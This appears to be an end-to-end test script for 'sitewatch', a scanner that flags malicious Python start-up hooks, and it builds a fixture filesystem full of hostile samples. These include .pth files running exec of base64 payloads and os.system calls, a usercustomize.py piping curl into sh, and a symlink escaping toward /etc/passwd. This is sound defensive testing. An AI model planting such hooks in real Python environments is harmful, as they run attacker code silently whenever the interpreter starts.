#!/usr/bin/env python3
"""End-to-end tests of `sitewatch scan` on fixture trees it never executes.

A fixture image is built under a temporary folder and scanned with --root:
interpreters found from files alone (dpkg status, pyvenv.cfg), symlinks that
must stay inside the root (an absolute link like Debian's sitecustomize.py),
hostile entries (a FIFO, a symlink loop, an oversize file), start-up
environment files, verdicts, the allowlist, the baseline and the table.
Last, a scan of this machine's own interpreters must finish without error.

Usage: test_scan_cli.py SITEWATCH
"""
import base64
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile

FAILURES = []


PASSED = []


def check(cond, what):
    if cond:
        PASSED.append(what)
        print("ok   " + what)
    else:
        print("FAIL " + what)
        FAILURES.append(what)


def write(path, data, mode=None):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())
    if mode is not None:
        os.chmod(path, mode)


SITE_PY = """# a stand-in for Debian's site.py: only what scan reads from it
def addpackage(sitedir, name, known_paths):
    f = io.TextIOWrapper(io.open_code(fullname), encoding="locale")
def getsitepackages(prefixes=None):
    sitepackages.append(os.path.join(prefix, "local/lib", "python3.11", "dist-packages"))
"""


def pyc_bytes(source, mtime, size):
    """A 3.11 .pyc (magic 3495, PEP 552 flags 0) of `source`: compiled, never run."""
    import marshal
    import struct
    code = marshal.dumps(compile(source, "<fixture>", "exec"))
    return struct.pack("<HHIII", 3495, 0x0a0d, 0, mtime & 0xffffffff, size & 0xffffffff) + code


def cached_pyc(source_path):
    """The __pycache__ file a first import writes: its header holds the source's mtime and size."""
    st = os.stat(source_path)
    with open(source_path, "rb") as f:
        data = pyc_bytes(f.read(), int(st.st_mtime), st.st_size)
    folder = os.path.join(os.path.dirname(source_path), "__pycache__")
    name = os.path.basename(source_path)[:-3] + ".cpython-311.pyc"
    write(os.path.join(folder, name), data)


def build_image(root):
    dist = os.path.join(root, "usr/lib/python3/dist-packages")
    write(os.path.join(root, "etc/passwd"),
          "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n")
    write(os.path.join(root, "usr/bin/python3.11"), b"")
    write(os.path.join(root, "usr/lib/python3.11/site.py"), SITE_PY)
    write(os.path.join(root, "usr/lib/python3.11/os.py"), "")
    os.symlink("python3.11", os.path.join(root, "usr/bin/python3"))
    write(os.path.join(root, "var/lib/dpkg/status"),
          "Package: python3.11-minimal\nStatus: install ok installed\nVersion: 3.11.4-1\n\n")
    # Debian's absolute link: it must resolve inside the root, never to the host's /etc.
    write(os.path.join(root, "etc/python3.11/sitecustomize.py"), "import os  # the image's own\n")
    os.symlink("/etc/python3.11/sitecustomize.py", os.path.join(root, "usr/lib/python3.11/sitecustomize.py"))

    stage = base64.b64encode(b"print('stage two')").decode()
    write(os.path.join(dist, "evil.pth"), "import base64; exec(base64.b64decode('%s'))\n" % stage)
    write(os.path.join(dist, "distutils-precedence.pth"),
          "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
          "'local'; enabled and __import__('_distutils_hack').add_shim(); \n")
    write(os.path.join(dist, "appended.pth"),
          "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
          "'local'; enabled and __import__('_distutils_hack').add_shim(); ; os.system('id')\n")
    write(os.path.join(dist, ".hidden.pth"), "import os; os.system('id')\n")
    # Import lines that must not hide the next line, and one that certainly raises.
    write(os.path.join(dist, "0stop.pth"), "import sitewatch_absent_x\nimport os; os.system('never')\n")
    write(os.path.join(dist, "hide.pth"), "import builtins\nimport _frozen_importlib\nimport __main__\n"
          "import os; os.system('hidden')\n")
    write(os.path.join(dist, "hook.pth"), "import sys; sys.modules['made_up'] = sys\n"
          "import made_up\nimport os; os.system('after hook')\n")
    write(os.path.join(dist, "dormant.pth"), "  import os; os.system('id')\n")
    write(os.path.join(dist, "big.pth"), "import os\n" + "#" * 300000 + "\nimport os; os.system('padded')\n")
    os.symlink("loop2.pth", os.path.join(dist, "loop1.pth"))
    os.symlink("loop1.pth", os.path.join(dist, "loop2.pth"))
    os.symlink("../../../../../../../../etc/passwd", os.path.join(dist, "escape.pth"))
    os.mkfifo(os.path.join(dist, "fifo.pth"))

    home = os.path.join(root, "home/alice")
    write(os.path.join(home, ".local/lib/python3.11/site-packages/usercustomize.py"),
          "import os\nos.system('curl x | sh')\n")
    cached_pyc(os.path.join(home, ".local/lib/python3.11/site-packages/usercustomize.py"))
    sourceless = os.path.join(root, "usr/local/lib/python3.11/dist-packages/sitecustomize.pyc")
    write(sourceless, pyc_bytes(b"import base64, os\nexec(base64.b64decode('aWQ='))\n", 0, 0))
    write(os.path.join(home, ".bashrc"), "export PYTHONSTARTUP=~/.pythonrc.py\n")
    write(os.path.join(home, ".pythonrc.py"), "import socket, subprocess\n")
    write(os.path.join(root, "etc/environment"), 'PYTHONPATH=":/opt/tools"\n')
    write(os.path.join(root, "opt/tools/sitecustomize.py"), "import os; os.popen('x')\n")
    write(os.path.join(root, "etc/systemd/system/app.service"),
          "[Service]\nEnvironment=\"PYTHONUSERBASE=/srv/ub\"\nExecStart=/usr/bin/python3.11 app.py\n")
    write(os.path.join(root, "srv/ub/lib/python3.11/site-packages/ub.pth"), "import os; os.system('y')\n")

    venv = os.path.join(root, "tmp/rt-venv")
    write(os.path.join(venv, "pyvenv.cfg"), "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.4\n")
    write(os.path.join(venv, "bin/python"), b"")
    write(os.path.join(venv, "lib/python3.11/site-packages/redteam.pth"), "import os; os.system('calc')\n")
    return dist


def scan(sitewatch, *args, timeout=120):
    proc = subprocess.run([sitewatch, "scan"] + list(args), capture_output=True, text=True,
                          timeout=timeout)
    return proc


def findings_of(proc):
    return [json.loads(line) for line in proc.stdout.splitlines() if line.strip()]


def find(findings, path, kind=None):
    return [f for f in findings if f["path"] == path and (kind is None or f["kind"] == kind)]


def image_checks(sitewatch, root, dist):
    proc = scan(sitewatch, "--root", root, "--format", "ndjson", "--max-file-size", "200000")
    check(proc.returncode == 1, "--root scan exits 1 with high findings (got %d: %s)" % (proc.returncode, proc.stderr))
    fs = findings_of(proc)
    d = "/usr/lib/python3/dist-packages/"

    evil = find(fs, d + "evil.pth", "pth")
    check(evil and evil[0]["verdict"] == "critical" and evil[0]["line"] == 1 and evil[0]["offset"] == 0,
          "exec of base64 is critical, at line 1 offset 0")
    check(evil and evil[0]["interpreters"] == [{"path": "/usr/bin/python3.11", "version": "3.11.4"}],
          "the version comes from dpkg's status file without running anything")
    benign = find(fs, d + "distutils-precedence.pth", "pth")
    check(benign and benign[0]["verdict"] == "benign", "setuptools' line is benign")
    appended = find(fs, d + "appended.pth", "pth")
    check(appended and appended[0]["verdict"] == "high", "the template with a statement appended is not benign")
    hidden = find(fs, d + ".hidden.pth", "pth")
    check(hidden and hidden[0]["verdict"] == "critical" and hidden[0]["interpreters"],
          "a hidden .pth runs on a site.py without the hidden-name check, and is critical")
    stop = [f for f in find(fs, d + "0stop.pth") if f["line"] == 2]
    check(stop and not stop[0]["interpreters"], "a line after an import of a module that exists nowhere does not run")
    hide = [f for f in find(fs, d + "hide.pth") if f["line"] == 4]
    check(hide and hide[0]["interpreters"], "builtins, _frozen_importlib and __main__ import: the next line runs")
    hook = [f for f in find(fs, d + "hook.pth") if f["line"] == 3]
    check(hook and hook[0]["interpreters"], "after a line that fills sys.modules, an unknown import is not predicted to raise")
    dormant = find(fs, d + "dormant.pth", "pth")
    check(dormant and not dormant[0]["interpreters"] and "3.15" in dormant[0]["reason"],
          "leading whitespace is reported as dormant until 3.15")
    big = find(fs, d + "big.pth")
    check(big and "larger than --max-file-size" in big[0]["reason"], "an oversize .pth is a finding")
    check(big and big[0]["verdict"] in ("high", "critical") and "os.system" in big[0]["reason"],
          "an oversize .pth is at least high and its last part is analysed (got %s)" % big)
    loop = find(fs, d + "loop1.pth")
    check(loop and "symlink loop" in loop[0]["reason"], "a symlink loop is reported")
    fifo = find(fs, d + "fifo.pth")
    check(fifo and "FIFO" in fifo[0]["reason"], "a FIFO named .pth is reported, without blocking")
    escape = find(fs, d + "escape.pth")
    check(any("alice" in f.get("text", "") for f in escape),
          "a relative link climbing out of the root stays in the root (it reads the image's passwd)")

    site = find(fs, "/usr/lib/python3.11/sitecustomize.py", "sitecustomize")
    own = hashlib.sha256(b"import os  # the image's own\n").hexdigest()
    check(site and site[0].get("sha256") == own and "/etc/python3.11/sitecustomize.py" in site[0]["reason"],
          "Debian's absolute sitecustomize link resolves inside the root")
    user = find(fs, "/home/alice/.local/lib/python3.11/site-packages/usercustomize.py", "usercustomize")
    check(user and user[0]["verdict"] == "high" and user[0]["interpreters"],
          "a usercustomize in a user site from /etc/passwd runs and is high")
    check(user and "cached bytecode" in user[0]["reason"] and
          not any(f["path"].endswith("usercustomize.cpython-311.pyc") for f in fs),
          "a source's matching __pycache__ file is evidence of the source's finding, not its own")
    pyc = find(fs, "/usr/local/lib/python3.11/dist-packages/sitecustomize.pyc", "sitecustomize")
    # Debian's own sitecustomize shadows it: critical, one level lower.
    check(pyc and pyc[0]["verdict"] == "high" and "exec()" in pyc[0]["reason"] and
          "b64decode" in pyc[0]["reason"] and "os.exec" not in pyc[0]["reason"],
          "a sourceless .pyc is judged on its names (exec with base64)")
    startup = [f for f in fs if f["path"] == "/home/alice/.bashrc" and f["kind"] == "startup-env"]
    check(startup and startup[0]["verdict"] == "critical" and startup[0]["line"] == 1,
          "PYTHONSTARTUP's script is judged (socket with subprocess: critical)")
    empty = find(fs, "/etc/environment", "pythonpath-empty")
    check(empty and empty[0]["verdict"] == "medium", "an empty PYTHONPATH element is its own finding")
    tools = find(fs, "/opt/tools/sitecustomize.py", "sitecustomize")
    check(tools and "PYTHONPATH" in tools[0]["reason"], "a sitecustomize in a PYTHONPATH folder is reported")
    ub = find(fs, "/srv/ub/lib/python3.11/site-packages/ub.pth", "pth")
    check(ub and ub[0]["interpreters"], "PYTHONUSERBASE from a systemd unit adds a user site")
    rt = find(fs, "/tmp/rt-venv/lib/python3.11/site-packages/redteam.pth", "pth")
    check(rt and rt[0]["verdict"] == "critical" and rt[0]["interpreters"][0]["path"] == "/tmp/rt-venv/bin/python",
          "a venv under /tmp is found by its pyvenv.cfg and its os.system hook is critical")
    check(not any(f["path"].startswith(root) for f in fs), "paths are reported as seen inside the root")
    return fs


def explicit_paths(sitewatch, root):
    proc = scan(sitewatch, "--root", root, "--format", "json", "--no-env", "/usr/bin/python3")
    doc = json.loads(proc.stdout)
    check([i["path"] for i in doc["interpreters"]] == ["/usr/bin/python3"],
          "an explicit symlink to the interpreter is followed (got %s)" % doc["interpreters"])
    proc = subprocess.run([sitewatch, "scan", "--format", "json", "--no-env", "--no-proc", "rt-venv"],
                          capture_output=True, text=True, cwd=os.path.join(root, "tmp"), timeout=120)
    doc = json.loads(proc.stdout)
    check([i["path"] for i in doc["interpreters"]] == [os.path.join(root, "tmp/rt-venv/bin/python")],
          "a relative path is taken from the working folder (got %s)" % doc["interpreters"])


def allow_and_baseline(sitewatch, root, dist, tmp):
    evil = open(os.path.join(dist, "evil.pth"), "rb").read()
    allow = os.path.join(tmp, "allow.txt")
    write(allow, "# our own hook\n%s /usr/lib/python3/*\n" % hashlib.sha256(evil).hexdigest())
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--allow", allow))
    e = find(fs, "/usr/lib/python3/dist-packages/evil.pth", "pth")
    check(e and e[0]["verdict"] == "benign" and "allow.txt:2" in e[0]["reason"], "the allowlist clears a hook by hash")

    base = os.path.join(tmp, "baseline.json")
    proc = scan(sitewatch, "--root", root, "--format", "json")
    write(base, proc.stdout)
    doc = json.loads(proc.stdout)
    check(doc["findings"] and doc["interpreters"], "--format json is one document with interpreters and findings")
    proc = scan(sitewatch, "--root", root, "--format", "ndjson", "--baseline", base)
    check(proc.returncode == 0 and not findings_of(proc), "nothing is new against its own baseline")
    write(os.path.join(dist, "evil.pth"), "import os; os.system('changed')\n")
    write(os.path.join(dist, "new.pth"), "import os; os.system('new')\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--baseline", base))
    paths = sorted(f["path"] for f in fs)
    check(paths == ["/usr/lib/python3/dist-packages/evil.pth", "/usr/lib/python3/dist-packages/new.pth"],
          "the baseline keeps only the changed and the new hook (got %s)" % paths)
    check(any(f.get("changed") for f in fs), "a changed hook is marked as changed")


def usage_and_table(sitewatch, root):
    proc = scan(sitewatch, "--root", root, "--format", "table", "--fail-on", "critical")
    check(proc.returncode == 1 and proc.stdout.startswith("VERDICT"), "the table has a header; --fail-on critical")
    # A name that would erase its own row on a terminal, and one that is not UTF-8.
    dist = os.path.join(root, "usr/lib/python3/dist-packages").encode()
    names = [dist + b"/esc\x1b[2K\r.pth", dist + b"/latin\xe9.pth"]
    for name in names:
        write(name, "import os; os.system('id')  # \x1b[8m\n")
    proc = subprocess.run([sitewatch, "scan", "--root", root, "--format", "table"], capture_output=True,
                          timeout=120)
    out = proc.stdout
    check(b"\x1b" not in out and b"\r" not in out and b"\xe9" not in out,
          "the table holds no control character and no byte that is not UTF-8")
    check(b"esc\\x1b[2K\\x0d.pth:1" in out and b"latin\\xe9.pth:1" in out,
          "the table shows control and non-UTF-8 bytes of a name as \\xNN")
    for name in names:
        os.unlink(name)
    proc = scan(sitewatch, "--root", root, "--fail-on", "nonsense")
    check(proc.returncode == 2 and "--fail-on" in proc.stderr, "a bad --fail-on is a usage error")
    proc = scan(sitewatch, "--root", os.path.join(root, "absent"))
    check(proc.returncode == 2, "an absent --root is fatal")


def as_unprivileged(cmd):
    """cmd run as nobody when this test runs as root (root reads every folder), else as is."""
    if os.geteuid() != 0:
        return cmd
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        return None
    return [setpriv, "--reuid=65534", "--regid=65534", "--clear-groups"] + cmd


def silent_truncation(sitewatch, tmp):
    """Folders that scan cannot see into are findings, never silently dropped."""
    root = os.path.join(tmp, "truncated")
    write(os.path.join(root, "etc/passwd"), "root:x:0:0:root:/root:/bin/bash\n")
    deep = os.path.join(root, "srv/a/b/c/d/e/f/g/h/i/venv")
    write(os.path.join(deep, "pyvenv.cfg"), "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.4\n")
    write(os.path.join(deep, "bin/python"), b"")
    write(os.path.join(deep, "lib/python3.11/site-packages/deep.pth"), "import os; os.system('deep')\n")
    proc = scan(sitewatch, "--root", root, "--format", "json", "--no-env")
    doc = json.loads(proc.stdout)
    capped = find(doc["findings"], "/srv/a/b/c/d/e/f/g/h", "error")
    check(capped and capped[0]["verdict"] == "info" and "--max-depth" in capped[0]["reason"],
          "a folder where --max-depth stops the search is reported with the option (got %s)" % capped)
    check(doc["stats"]["errors"] >= 1, "the depth cap is counted in the summary's errors")
    doc = json.loads(scan(sitewatch, "--root", root, "--format", "json", "--no-env", "--max-depth", "12").stdout)
    check(find(doc["findings"], "/srv/a/b/c/d/e/f/g/h/i/venv/lib/python3.11/site-packages/deep.pth", "pth"),
          "a higher --max-depth finds the deep venv")

    write(os.path.join(root, "usr/bin/python3.11"), b"", 0o755)
    write(os.path.join(root, "usr/lib/python3.11/site.py"), SITE_PY)
    dist = os.path.join(root, "usr/lib/python3/dist-packages")
    write(os.path.join(dist, "secret.pth"), "import os; os.system('id')\n")
    os.chmod(dist, 0o700)
    for folder in (tmp, root):
        os.chmod(folder, 0o755)
    cmd = as_unprivileged([sitewatch, "scan", "--root", root, "--format", "json", "--no-env"])
    if cmd is None:
        print("skip an unreadable site folder: running as root without setpriv")
        return
    doc = json.loads(subprocess.run(cmd, capture_output=True, text=True, timeout=120).stdout)
    denied = find(doc["findings"], "/usr/lib/python3/dist-packages", "error")
    check(denied and "cannot be listed" in denied[0]["reason"] and doc["stats"]["errors"] >= 1,
          "an unreadable site folder is an error finding, counted in the summary (got %s)" % denied)


def blocked_customize(sitewatch, tmp):
    """A customize module behind a start-breaking .pth is listed, marked and rated as if it ran."""
    for case, pth in (("exit", "import sys; sys.exit(0)\n"), ("badutf8", b"import os\n\xff\n")):
        root = os.path.join(tmp, "blocked-" + case)
        site = os.path.join(root, "opt/v/lib/python3.11/site-packages")
        write(os.path.join(root, "etc/passwd"), "root:x:0:0:root:/root:/bin/bash\n")
        write(os.path.join(root, "opt/v/pyvenv.cfg"),
              "home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.4\n")
        write(os.path.join(root, "opt/v/bin/python"), b"")
        write(os.path.join(site, "aaa.pth"), pth)
        write(os.path.join(site, "sitecustomize.py"), "import os; os.system('x')\n")
        fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
        custom = find(fs, "/opt/v/lib/python3.11/site-packages/sitecustomize.py", "sitecustomize")
        check(custom and custom[0]["verdict"] == "high" and not custom[0]["interpreters"] and
              "would run once the breaking hook /opt/v/lib/python3.11/site-packages/aaa.pth is removed"
              in custom[0]["reason"],
              "a sitecustomize behind a %s .pth is listed as blocked and rated as if it ran (got %s)"
              % (case, custom))


def followed_imports(sitewatch, root, dist):
    """The module an executed import line names is judged with the line."""
    write(os.path.join(dist, "helper.pth"), "import sitewatch_helper\n")
    write(os.path.join(dist, "sitewatch_helper.py"), "import os; os.system('payload')\n")
    write(os.path.join(dist, "_distutils_hack/__init__.py"), "import sys\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
    d = "/usr/lib/python3/dist-packages/"
    helper = find(fs, d + "helper.pth", "pth")
    check(helper and helper[0]["verdict"] == "high" and
          "imports sitewatch_helper from %ssitewatch_helper.py: starts processes" % d in helper[0]["reason"],
          "a .pth importing a payload module lists the module and its reasons (got %s)" % helper)
    benign = find(fs, d + "distutils-precedence.pth", "pth")
    check(benign and benign[0]["verdict"] == "benign", "setuptools' line with its own module is benign")
    # Debian reads /usr/local/lib/python3.11/dist-packages before /usr/lib/python3/dist-packages.
    write(os.path.join(root, "usr/local/lib/python3.11/dist-packages/_distutils_hack.py"),
          "import os; os.system('shadow')\n")
    fs = findings_of(scan(sitewatch, "--root", root, "--format", "ndjson", "--no-env"))
    shadowed = find(fs, d + "distutils-precedence.pth", "pth")
    check(shadowed and shadowed[0]["verdict"] == "high" and "shadows setuptools'" in shadowed[0]["reason"],
          "a _distutils_hack.py in an earlier site folder makes setuptools' line not benign (got %s)" % shadowed)


def machine_scan(sitewatch):
    proc = scan(sitewatch, "--format", "json", timeout=300)
    check(proc.returncode in (0, 1), "a scan of this machine finishes (status %d, %s)" % (proc.returncode, proc.stderr[-300:]))
    try:
        doc = json.loads(proc.stdout)
    except ValueError:
        check(False, "the machine scan prints one JSON document")
        return
    names = [i["path"] + " " + i["version"] for i in doc["interpreters"]]
    print("     machine interpreters: " + ", ".join(names))
    if os.path.exists("/usr/bin/python3.11"):
        check(any(i["path"] == "/usr/bin/python3.11" for i in doc["interpreters"]),
              "the machine scan finds /usr/bin/python3.11")


def main():
    sitewatch = os.path.abspath(sys.argv[1])
    tmp = tempfile.mkdtemp(prefix="sitewatch-scan-")
    try:
        root = os.path.join(tmp, "image")
        dist = build_image(root)
        image_checks(sitewatch, root, dist)
        usage_and_table(sitewatch, root)
        explicit_paths(sitewatch, root)
        allow_and_baseline(sitewatch, root, dist, tmp)
        silent_truncation(sitewatch, tmp)
        blocked_customize(sitewatch, tmp)
        followed_imports(sitewatch, root, dist)
        machine_scan(sitewatch)
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    print("%d passed, %d failed" % (len(PASSED), len(FAILURES)))
    return 1 if FAILURES else 0


if __name__ == "__main__":
    sys.exit(main())
